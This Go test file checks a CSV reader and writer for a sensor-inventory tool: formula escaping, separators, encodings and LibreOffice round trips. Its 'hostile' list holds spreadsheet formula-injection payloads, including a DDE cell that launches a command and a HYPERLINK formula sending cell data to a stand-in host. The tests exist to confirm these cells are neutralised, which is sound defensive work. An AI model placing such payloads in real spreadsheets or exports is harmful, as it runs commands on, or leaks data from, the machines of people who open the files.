package sheetcsv

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/tapline/tapline/internal/libreoffice"
)

// hostile are cells a spreadsheet would run as formulas (OWASP's list),
// the classic command-running one first, and values next to them.
var hostile = []string{
	`=cmd|' /C calc'!A1`, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
	`=HYPERLINK("http://192.0.2.1/?x="&A1,"click")`, "'=1+1", "''-2", "-", "@",
}

// TestWriterNeutralisesFormulas: every hostile cell is written with a
// leading apostrophe, ordinary ones as they are.
func TestWriterNeutralisesFormulas(t *testing.T) {
	for _, v := range hostile {
		got := Escape(v)
		if !strings.HasPrefix(got, "'") || got[1:] != v {
			t.Errorf("Escape(%q) = %q", v, got)
		}
	}
	for _, v := range []string{"sensor-01", "192.0.2.11", "", "a=b", "x-1", "'quoted'", "10.0"} {
		if Escape(v) != v {
			t.Errorf("Escape(%q) = %q, want it unchanged", v, Escape(v))
		}
	}
}

// TestRoundTrip: what the writer writes, the reader reads back exactly,
// in both separators, whatever the cells hold.
func TestRoundTrip(t *testing.T) {
	rows := [][]string{
		{"sensor", "address", "note"},
		// A lone carriage return cannot survive CSV (readers drop it), so
		// the hostile cell that begins with one is left out here.
		append([]string{"a,b;c", "line\nbreak", `quote "x"`}, slices.DeleteFunc(slices.Clone(hostile), func(v string) bool { return v[0] == '\r' })...),
		{"Zürich Süd", "", "  spaced  "},
	}
	for _, comma := range []rune{',', ';', '\t'} {
		var buf bytes.Buffer
		w := NewWriter(&buf, Dialect{Comma: comma})
		for _, r := range rows {
			w.Write(r)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		raw := buf.Bytes()
		if !bytes.HasPrefix(raw, bomUTF8) || !bytes.Contains(raw, []byte("\r\n")) {
			t.Fatalf("%q: no BOM or no CRLF: %q", comma, raw)
		}
		r, err := NewReader(bytes.NewReader(raw))
		if err != nil {
			t.Fatal(err)
		}
		if r.Dialect.Comma != comma || !r.Dialect.BOM {
			t.Fatalf("dialect %+v, want %q with BOM", r.Dialect, comma)
		}
		for i, want := range rows {
			got, err := r.Read()
			if err != nil || !reflect.DeepEqual(got, want) {
				t.Fatalf("%q row %d: %q %v, want %q", comma, i, got, err, want)
			}
		}
		if _, err := r.Read(); err != io.EOF {
			t.Fatalf("trailing record: %v", err)
		}
	}
}

// TestReaderEncodings: BOMs, UTF-16 and line ends are taken as spreadsheets
// save them; text that is not UTF-8 is refused with its line.
func TestReaderEncodings(t *testing.T) {
	utf16le := []byte{0xFF, 0xFE}
	for _, c := range "sensor\taddress\r\ns-1\t192.0.2.1\r\n" {
		utf16le = append(utf16le, byte(c), byte(c>>8))
	}
	cases := []struct {
		name  string
		data  []byte
		comma rune
	}{
		{"comma LF", []byte("sensor,address\ns-1,192.0.2.1\n"), ','},
		{"semicolon CRLF with BOM", []byte("\xEF\xBB\xBFsensor;address\r\ns-1;192.0.2.1\r\n"), ';'},
		{"semicolon, commas inside quotes", []byte("\"sensor\";\"address\"\r\n\"s-1\";\"192.0.2.1\"\r\n"), ';'},
		{"a header with a quoted comma", []byte("sensor;\"address, new\"\ns-1;192.0.2.1\n"), ';'},
		{"UTF-16 with BOM (Excel Unicode Text)", utf16le, '\t'},
		{"no trailing line end", []byte("sensor,address\ns-1,192.0.2.1"), ','},
		{"comment lines with other separators first", []byte("# made by hand; see docs, inventory\n\nsensor;address\ns-1;192.0.2.1\n"), ';'},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := NewReader(bytes.NewReader(c.data))
			if err != nil {
				t.Fatal(err)
			}
			if r.Dialect.Comma != c.comma {
				t.Fatalf("separator %q, want %q", r.Dialect.Comma, c.comma)
			}
			r.Read()
			rec, err := r.Read()
			if err != nil || len(rec) != 2 || rec[0] != "s-1" || rec[1] != "192.0.2.1" {
				t.Fatalf("record %q %v", rec, err)
			}
		})
	}
	// Excel's plain "CSV" on a German Windows: Windows-1252, "ü" is 0xFC.
	_, err := NewReader(bytes.NewReader([]byte("sensor;address\ns-1;192.0.2.1\nZ\xFCrich;192.0.2.2\n")))
	var ee *EncodingError
	if !errors.As(err, &ee) || ee.Line != 3 || !strings.Contains(err.Error(), "CSV UTF-8") {
		t.Fatalf("cp1252: %v", err)
	}
	if _, err := NewReader(io.MultiReader(strings.NewReader("a,b\n"), bytes.NewReader(make([]byte, MaxSize)))); err == nil {
		t.Fatal("a file over MaxSize was read")
	}
}

// TestLibreOfficeSaves: CSV files saved by a real LibreOffice Calc, with a
// comma and with a semicolon, from a spreadsheet holding separators,
// quotes, line breaks and non-ASCII text in its cells, read back as the
// cells were, also with a BOM and CRLF line ends as Excel and Calc on
// Windows write them.
func TestLibreOfficeSaves(t *testing.T) {
	libreoffice.Require(t)
	dir := t.TempDir()
	rows := [][]string{
		{"sensor", "address", "note", "path"},
		{"sensor-01", "192.0.2.11", "one, two; three", `certs\Zürich Süd\sensor-01.crt`},
		{"sensor-02", "192.0.2.12", "line one\nline two", `say "hello"`},
		{"sensor-03", "192.0.2.13", "007", "tab\there"},
	}
	ods := filepath.Join(dir, "site.ods")
	if err := libreoffice.WriteODS(ods, rows); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, filter string
		comma        rune
	}{{"comma", libreoffice.CommaCSV, ','}, {"semicolon", libreoffice.SemicolonCSV, ';'}} {
		t.Run(c.name, func(t *testing.T) {
			out := t.TempDir()
			saved := libreoffice.Convert(t, out, "csv:Text - txt - csv (StarCalc):"+c.filter, "", ods)[0]
			raw, err := os.ReadFile(saved)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Contains(raw, []byte(string(c.comma)+"\"one, two; three\"")) {
				t.Fatalf("LibreOffice wrote something else than expected:\n%s", raw)
			}
			crlf := bytes.ReplaceAll(raw, []byte("\n"), []byte("\r\n"))
			for variant, data := range map[string][]byte{
				"as saved": raw, "with a BOM": append(append([]byte{}, bomUTF8...), raw...), "CRLF with a BOM": append(append([]byte{}, bomUTF8...), crlf...),
			} {
				r, err := NewReader(bytes.NewReader(data))
				if err != nil {
					t.Fatalf("%s: %v", variant, err)
				}
				if r.Dialect.Comma != c.comma {
					t.Fatalf("%s: separator %q", variant, r.Dialect.Comma)
				}
				for i, want := range rows {
					got, err := r.Read()
					if err != nil || len(got) != len(want) {
						t.Fatalf("%s row %d: %q %v, want %q", variant, i, got, err, want)
					}
					for j := range want {
						g := strings.ReplaceAll(got[j], "\r\n", "\n") // a line break inside a field keeps the file's line end
						if g != want[j] {
							t.Fatalf("%s row %d field %d: %q, want %q", variant, i, j, got[j], want[j])
						}
					}
				}
			}
		})
	}
}
